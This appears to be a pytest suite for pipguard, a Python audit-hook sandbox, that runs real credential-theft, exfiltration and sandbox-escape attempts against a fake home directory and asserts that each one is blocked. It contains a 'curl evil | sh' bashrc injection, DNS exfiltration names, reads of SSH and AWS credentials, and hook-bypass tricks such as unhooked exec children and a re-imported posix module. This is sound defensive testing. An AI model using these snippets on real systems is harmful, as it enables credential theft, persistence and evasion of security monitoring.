"""The audit-hook layer on its own (``--isolation audit``): every attack is
performed for real against a fake HOME and loopback listeners; each test
asserts the action failed AND the report holds the blocked event."""

from __future__ import annotations

import sys
import textwrap

import pytest

from pg import pipguard

PY = sys.executable


@pytest.fixture
def work(tmp_path):
    d = tmp_path / "work"
    d.mkdir()
    return d


def run_py(code, work, home, *extra, isolation="audit", env_extra=None):
    script = work / "attack.py"
    script.write_text(textwrap.dedent(code))
    return pipguard(["run", "--isolation", isolation, *extra, "--", PY, str(script)],
                    cwd=work, env=home.env(env_extra))


def test_secret_read_blocked_and_attributed(work, fake_home):
    r = run_py("""
        import os
        try:
            open(os.path.expanduser("~/.ssh/id_rsa")).read()
            print("STOLEN")
        except PermissionError as exc:
            print("denied", exc)
    """, work, fake_home)
    assert "STOLEN" not in r.stdout and "denied" in r.stdout
    (event,) = r.blocked(kind="file-read")
    assert event["target"] == str(fake_home.secrets["id_rsa"]) or event["target"].endswith(".ssh/id_rsa")
    assert event["layer"] == "audit"
    assert event["detail"]["python"].endswith("attack.py:4")
    assert r.report["verdict"] == "blocked"


@pytest.mark.parametrize("how", ["symlink", "proc_root", "dotdot", "relative", "bytes", "os_open_dirfd",
                                 "pathlib", "shutil", "sqlite3", "io_open_code", "listdir"])
def test_secret_read_every_path_form(work, fake_home, how):
    home = str(fake_home.path)
    code = {
        "symlink": f"os.symlink({home!r} + '/.aws/credentials', 'link'); open('link').read()",
        "proc_root": f"open('/proc/self/root' + {home!r} + '/.aws/credentials').read()",
        "dotdot": f"open({home!r} + '/.cache/../.aws/./credentials').read()",
        "relative": f"os.chdir({home!r}); open('.aws/credentials').read()",
        "bytes": f"open(os.fsencode({home!r} + '/.aws/credentials')).read()",
        "os_open_dirfd": f"d = os.open('/', os.O_RDONLY); os.read(os.open({home[1:]!r} + '/.aws/credentials', os.O_RDONLY, dir_fd=d), 100)",
        "pathlib": f"import pathlib; pathlib.Path({home!r}, '.aws', 'credentials').read_text()",
        "shutil": f"import shutil; shutil.copyfile({home!r} + '/.aws/credentials', 'copy')",
        "sqlite3": f"import sqlite3; sqlite3.connect({home!r} + '/.mozilla/firefox/x.default/logins.json').execute('select 1')",
        "io_open_code": f"import io; io.open_code({home!r} + '/.aws/credentials').read()",
        "listdir": f"os.listdir({home!r} + '/.aws')",
    }[how]
    r = run_py(f"""
        import os
        try:
            {code}
            print("STOLEN")
        except PermissionError as exc:
            print("denied")
    """, work, fake_home)
    assert "STOLEN" not in r.stdout, r.stderr
    assert "denied" in r.stdout
    assert any(".aws" in t or ".mozilla" in t for t in r.targets(kind="file-read")), r.report["events"]
    assert not (work / "copy").exists()


def test_home_default_deny_beyond_known_names(work, fake_home):
    """Not only well-known names: any file in a home directory."""
    (fake_home.path / "notes.txt").write_text("private")
    r = run_py(f"""
        try:
            print(open({str(fake_home.path / 'notes.txt')!r}).read())
        except PermissionError:
            print("denied")
    """, work, fake_home)
    assert "private" not in r.stdout
    assert r.blocked(kind="file-read", rule="home-read")


def test_other_process_environ_blocked(work, fake_home):
    r = run_py("""
        import os
        try:
            open("/proc/%d/environ" % os.getppid()).read()
            print("READ")
        except PermissionError:
            print("denied")
    """, work, fake_home)
    assert "denied" in r.stdout
    assert r.blocked(kind="file-read", rule="proc-other-process")


def test_bashrc_write_blocked(work, fake_home):
    r = run_py(f"""
        try:
            with open({str(fake_home.bashrc)!r}, "a") as fh:
                fh.write("curl evil | sh\\n")
        except PermissionError:
            print("denied")
    """, work, fake_home)
    assert "denied" in r.stdout
    assert fake_home.bashrc.read_text() == fake_home.bashrc_original
    assert str(fake_home.bashrc) in r.targets(kind="file-write")


def test_rename_out_of_build_dir_blocked(work, fake_home, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    r = run_py(f"""
        import os
        open("x", "w").write("payload")
        try:
            os.rename("x", {str(outside / 'x')!r})
        except PermissionError:
            print("denied")
    """, work, fake_home)
    assert "denied" in r.stdout and not (outside / "x").exists()
    assert r.blocked(kind="file-write", rule="write-outside-roots")


def test_udp_sendto_blocked(work, fake_home, loopback_udp):
    r = run_py(f"""
        import socket
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            s.sendto(b"PIPGUARD-LEAK", ("127.0.0.1", {loopback_udp.port}))
        except PermissionError:
            print("denied")
    """, work, fake_home)
    assert "denied" in r.stdout
    assert loopback_udp.received == []
    assert f"127.0.0.1:{loopback_udp.port}" in r.targets(kind="network")


def test_tcp_connect_blocked(work, fake_home, loopback_tcp):
    r = run_py(f"""
        import socket
        try:
            socket.create_connection(("127.0.0.1", {loopback_tcp.port})).sendall(b"LEAK")
        except PermissionError:
            print("denied")
    """, work, fake_home)
    assert "denied" in r.stdout and loopback_tcp.received == []
    assert r.report["network"][0]["action"] == "blocked"


def test_dns_lookup_blocked(work, fake_home):
    r = run_py("""
        import socket
        try:
            socket.getaddrinfo("c2VjcmV0.exfil.invalid", 80)
        except PermissionError:
            print("denied")
        try:
            socket.gethostbyname("c2VjcmV0.exfil.invalid")
        except PermissionError:
            print("denied2")
    """, work, fake_home)
    assert "denied" in r.stdout and "denied2" in r.stdout
    assert "c2VjcmV0.exfil.invalid" in r.targets(kind="network", rule="dns-lookup")


@pytest.mark.parametrize("how", ["posix_spawn", "fork_execv", "popen", "system"])
def test_deny_subprocess(work, fake_home, how):
    code = {
        "posix_spawn": "os.posix_spawn('/bin/true', ['/bin/true'], os.environ)",
        "fork_execv": "pid = os.fork()\nif pid == 0:\n    os.execv('/bin/true', ['/bin/true'])",
        "popen": "import subprocess; subprocess.run(['/bin/true'])",
        "system": "os.system('/bin/true')",
    }[how]
    script = "import os\ntry:\n" + textwrap.indent(code, "    ") + "\n    print('SPAWNED')\nexcept PermissionError:\n    print('denied')\n"
    r = run_py(script, work, fake_home, "--deny-subprocess")
    assert "SPAWNED" not in r.stdout and "denied" in r.stdout
    assert r.blocked(kind="process", rule="subprocess-denied")


def test_grandchild_with_empty_env_is_hooked(work, fake_home):
    r = run_py(f"""
        import subprocess, sys
        code = "open({str(fake_home.secrets['aws'])!r}).read(); print('STOLEN')"
        subprocess.run([sys.executable, "-c", code], env={{}})
    """, work, fake_home)
    assert "STOLEN" not in r.stdout
    (event,) = r.blocked(kind="file-read")
    assert event["target"].endswith(".aws/credentials")
    assert event["pid"] != r.report["processes"][0]["pid"]  # it came from the grandchild


@pytest.mark.parametrize("flags", [["-I"], ["-S"], ["-E", "-s"], ["-IS"]])
def test_isolated_python_child_is_hooked(work, fake_home, flags):
    """`python -I`/-S/-E would skip sitecustomize: the parent starts it hooked."""
    r = run_py(f"""
        import subprocess, sys
        code = "open({str(fake_home.secrets['aws'])!r}).read(); print('STOLEN')"
        subprocess.run([sys.executable, *{flags!r}, "-c", code])
        subprocess.run([sys.executable, *{flags!r}, "-m", "json.tool", {str(fake_home.secrets['docker'])!r}])
    """, work, fake_home)
    assert "STOLEN" not in r.stdout and "PIPGUARD-FAKE" not in r.stdout
    targets = r.targets(kind="file-read")
    assert any(t.endswith(".aws/credentials") for t in targets)
    assert any(t.endswith(".docker/config.json") for t in targets)


def test_multiprocessing_spawn_child_is_hooked(work, fake_home):
    r = run_py(f"""
        import multiprocessing as mp
        def steal():
            try:
                open({str(fake_home.secrets['aws'])!r}).read()
                print("STOLEN", flush=True)
            except PermissionError:
                print("denied", flush=True)
        if __name__ == "__main__":
            ctx = mp.get_context("spawn")
            p = ctx.Process(target=steal)
            p.start(); p.join()
    """, work, fake_home)
    assert "STOLEN" not in r.stdout and "denied" in r.stdout
    assert r.blocked(kind="file-read")


def test_hook_cannot_be_disabled_from_inside(work, fake_home):
    """Rebinding module globals, sys.modules, and frames reached through the
    hook's own exception does not switch the vetoes off."""
    secret = str(fake_home.secrets["aws"])
    r = run_py(f"""
        import os, sys, posixpath, gc
        os.path.realpath = posixpath.realpath = lambda p, **k: "/usr/share/harmless"
        os.fspath = lambda p: "/usr/share/harmless"
        for name in list(sys.modules):
            if "pipguard" in name:
                del sys.modules[name]
        try:
            gc.get_objects()
            print("GC-OK")
        except PermissionError:
            print("gc denied")
        try:
            open({secret!r})
        except PermissionError as exc:
            tb = exc.__traceback__
            while tb is not None:
                try:
                    frame = tb.tb_frame
                    if "pipguard" not in frame.f_code.co_filename:
                        tb = tb.tb_next
                        continue
                    for key in list(frame.f_locals):
                        try:
                            frame.f_locals[key] = None
                        except Exception:
                            pass
                    for key in list(frame.f_globals):
                        if not key.startswith("__"):
                            frame.f_globals[key] = None
                except PermissionError:
                    pass
                tb = tb.tb_next
        for attempt in range(2):
            try:
                print(open({secret!r}).read())
            except PermissionError:
                print("still denied")
    """, work, fake_home)
    assert "PIPGUARD-FAKE-SECRET" not in r.stdout, r.stdout + r.stderr
    assert r.stdout.count("still denied") == 2
    assert "gc denied" in r.stdout
    assert r.blocked(kind="syscall", rule="hook-tamper")
    assert len(r.blocked(kind="file-read")) >= 1


def test_setup_py_steal_under_real_pip_build_isolation(work, fake_home, wheelhouse, corpus_sdist,
                                                         loopback_tcp):
    """The seed design's hole: pip's isolated PEP 517 backend replaces
    PYTHONPATH. The hook must still be in the backend process."""
    sdist = corpus_sdist("steal_at_build")
    out = work / "out"
    r = pipguard(["run", "--isolation", "audit", "--keep-env", "PIPGUARD_TEST_SINK",
                  "--allow-read", str(wheelhouse), "--",
                  PY, "-m", "pip", "wheel", "--no-deps", "--no-index", "--find-links", str(wheelhouse),
                  "-w", str(out), str(sdist)],
                 cwd=work, env=fake_home.env({"PIPGUARD_TEST_SINK": f"127.0.0.1:{loopback_tcp.port}"}))
    assert loopback_tcp.received == [], "the secret left the sandbox"
    assert not fake_home.stolen()
    reads = r.blocked(kind="file-read")
    assert any(e["target"].endswith(".ssh/id_rsa") for e in reads), r.stderr[-3000:]
    # attributed to the package's own Python code (its attack module, called from setup.py)
    assert any("pgattack.py:" in e["detail"].get("python", "") for e in reads), reads
    assert r.blocked(kind="network")


@pytest.fixture(scope="session")
def pip26_python(tmp_path_factory, wheelhouse):
    """A venv with pip 26 (whose build env is a real venv with PYTHONPATH=''), made once per
    session from the wheelhouse (support.pipinstall.make_venv: the template venvs)."""
    from support.pipinstall import make_venv

    return str(make_venv(tmp_path_factory.mktemp("pip26") / "venv", "26.3", wheelhouse) / "bin" / "python")


def test_setup_py_steal_under_pip26_venv_build_env(work, fake_home, wheelhouse, corpus_sdist,
                                                    loopback_tcp, pip26_python):
    sdist = corpus_sdist("steal_at_build")
    r = pipguard(["run", "--isolation", "audit", "--keep-env", "PIPGUARD_TEST_SINK",
                  "--allow-read", str(wheelhouse), "--",
                  pip26_python, "-m", "pip", "wheel", "--no-deps", "--no-index", "--find-links",
                  str(wheelhouse), "-w", str(work / "out"), str(sdist)],
                 cwd=work, env=fake_home.env({"PIPGUARD_TEST_SINK": f"127.0.0.1:{loopback_tcp.port}"}))
    assert loopback_tcp.received == [] and not fake_home.stolen()
    reads = r.blocked(kind="file-read")
    assert any(e["target"].endswith(".ssh/id_rsa") and "pgattack.py:" in e["detail"].get("python", "")
               for e in reads), r.stderr[-3000:]


def test_fork_exec_python_child_is_hooked(work, fake_home):
    r = run_py(f"""
        import os, sys
        pid = os.fork()
        if pid == 0:
            os.execv(sys.executable, [sys.executable, "-c",
                     "open({str(fake_home.secrets['aws'])!r}).read(); print('STOLEN')"])
        os.waitpid(pid, 0)
    """, work, fake_home)
    assert "STOLEN" not in r.stdout
    assert any(t.endswith(".aws/credentials") for t in r.targets(kind="file-read", layer="audit"))


def test_python_setup_py_build_of_malicious_project(tmp_path, fake_home, loopback_tcp):
    """The brief's first scenario: `pipguard run -- python setup.py build` in a hostile project."""
    import subprocess

    if subprocess.run([PY, "-c", "import setuptools"], capture_output=True).returncode != 0:
        pytest.skip("this interpreter has no setuptools")
    from support.corpus import copy_project

    work = copy_project("steal_at_build", tmp_path / "steal_at_build")
    r = pipguard(["run", "--keep-env", "PIPGUARD_TEST_SINK", "--", PY, "setup.py", "build"], cwd=work,
                 env=fake_home.env({"PIPGUARD_TEST_SINK": f"127.0.0.1:{loopback_tcp.port}"}))
    assert loopback_tcp.received == [] and not fake_home.stolen()
    assert (work / "build").is_dir(), r.stderr[-2000:]  # the build itself still works
    assert any(e["target"].endswith(".ssh/id_rsa") for e in r.blocked(kind="file-read")), r.stderr[-2000:]
    assert r.report["verdict"] == "blocked"


# Issue 12, item 5: CPython converts argv/env to C arrays before the os.exec
# and os.posix_spawn audit events, so rewriting them in the hook did nothing:
# fork + execve(python -S, env={}) ran unhooked and reached the network.
_UNHOOKED_CHILD = {
    "fork_execve": """
        pid = os.fork()
        if pid == 0:
            try:
                os.execve(sys.executable, [sys.executable, "-S", "-c", code], {})
            except PermissionError:
                print("refused", flush=True)
                os._exit(3)
        os.waitpid(pid, 0)
    """,
    "fork_execv": """
        pid = os.fork()
        if pid == 0:
            os.environ.pop("PYTHONPATH", None)
            os.environ.pop("PIPGUARD_HOOK", None)
            try:
                os.execv(sys.executable, [sys.executable, "-S", "-c", code])
            except PermissionError:
                print("refused", flush=True)
                os._exit(3)
        os.waitpid(pid, 0)
    """,
    "posix_spawn": """
        pid = os.posix_spawn(sys.executable, [sys.executable, "-S", "-c", code], {})
        os.waitpid(pid, 0)
    """,
    "posix_spawnp": """
        pid = os.posix_spawnp(sys.executable, [sys.executable, "-I", "-c", code], {})
        os.waitpid(pid, 0)
    """,
    "fexecve": """
        fd = os.open(sys.executable, os.O_RDONLY)
        pid = os.fork()
        if pid == 0:
            os.execve(fd, [sys.executable, "-S", "-c", code], {})
        os.waitpid(pid, 0)
    """,
    "spawnve": """
        os.spawnve(os.P_WAIT, sys.executable, [sys.executable, "-E", "-c", code], {})
    """,
}


@pytest.mark.parametrize("shape", sorted(_UNHOOKED_CHILD))
def test_exec_python_child_without_hook_env_is_hooked(work, fake_home, loopback_tcp, shape):
    """The exact shape of the issue and its variants: the child starts hooked
    (the wrappers rewrite argv and env), so its connect is blocked and reported."""
    code = (f"import socket; socket.create_connection(('127.0.0.1', {loopback_tcp.port})).sendall(b'LEAK');"
            " print('CONNECTED')")
    r = run_py("import os, sys\ncode = " + repr(code) + "\n" + textwrap.dedent(_UNHOOKED_CHILD[shape]),
               work, fake_home)
    assert "CONNECTED" not in r.stdout and not loopback_tcp.wait(timeout=0.5), r.stderr[-2000:]
    (event,) = [e for e in r.blocked(kind="network") if str(loopback_tcp.port) in e["target"]]
    assert event["pid"] != r.report["processes"][0]["pid"]  # blocked in the child, by its own hook


@pytest.mark.parametrize("call", ["execve", "posix_spawn"])
def test_exec_original_function_cannot_start_unhooked(work, fake_home, loopback_tcp, call):
    """The wrapped function's original is reachable (``_original``); calling it
    with an environment without the hook is refused at the audit event."""
    code = f"import socket; socket.create_connection(('127.0.0.1', {loopback_tcp.port}))"
    invoke = {"execve": "os.execve._original(sys.executable, [sys.executable, '-c', code], {})",
              "posix_spawn": "os.posix_spawn._original(sys.executable, [sys.executable, '-c', code], {})"}[call]
    r = run_py(f"""
        import os, sys
        code = {code!r}
        pid = os.fork()
        if pid == 0:
            try:
                {invoke}
            except PermissionError:
                print("refused", flush=True)
            os._exit(0)
        os.waitpid(pid, 0)
    """, work, fake_home)
    assert "refused" in r.stdout and not loopback_tcp.wait(timeout=0.5)
    assert r.blocked(kind="process", rule="unhookable-child")


@pytest.mark.parametrize("trick", ["unsetenv_execv", "lying_mapping"])
def test_exec_original_with_tricked_environment_is_refused(work, fake_home, loopback_tcp, trick):
    """Two ways to make the hook's view of the child's environment differ from
    the kernel's: drop PYTHONPATH from the C environ behind os.environ's back,
    or pass a mapping whose get() says "hooked" while its items say nothing."""
    code = f"import socket; socket.create_connection(('127.0.0.1', {loopback_tcp.port}))"
    invoke = {
        # a second instance of the posix module has the unwrapped execv
        "unsetenv_execv": "import _imp, importlib.machinery as m; raw = _imp.create_builtin(m.ModuleSpec('posix', None));"
                          " raw.unsetenv('PYTHONPATH'); raw.unsetenv('PIPGUARD_HOOK');"
                          " raw.execv(sys.executable, [sys.executable, '-c', code])",
        "lying_mapping": "real = dict(os.environ)\n"
                         "                class Lie(dict):\n"
                         "                    def get(self, k, d=None): return real.get(k, d)\n"
                         "                os.execve._original(sys.executable, [sys.executable, '-c', code], Lie())",
    }[trick]
    r = run_py(f"""
        import os, sys
        code = {code!r}
        pid = os.fork()
        if pid == 0:
            try:
                {invoke}
            except PermissionError:
                print("refused", flush=True)
            os._exit(0)
        os.waitpid(pid, 0)
    """, work, fake_home)
    assert "refused" in r.stdout and not loopback_tcp.wait(timeout=0.5), r.stderr[-2000:]
    assert r.blocked(kind="process", rule="unhookable-child")
